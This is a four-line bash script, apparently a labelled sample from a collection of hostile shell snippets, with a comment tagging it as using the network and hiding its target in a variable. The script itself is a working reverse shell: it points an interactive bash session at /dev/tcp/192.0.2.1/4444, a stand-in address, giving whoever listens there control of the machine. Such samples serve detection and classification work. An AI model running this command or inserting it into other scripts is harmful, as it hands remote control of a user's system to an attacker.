#!/bin/bash
# capabilities: network; hidden by: variable
target=/dev/tcp/192.0.2.1/4444
bash -i >& "$target" 0>&1
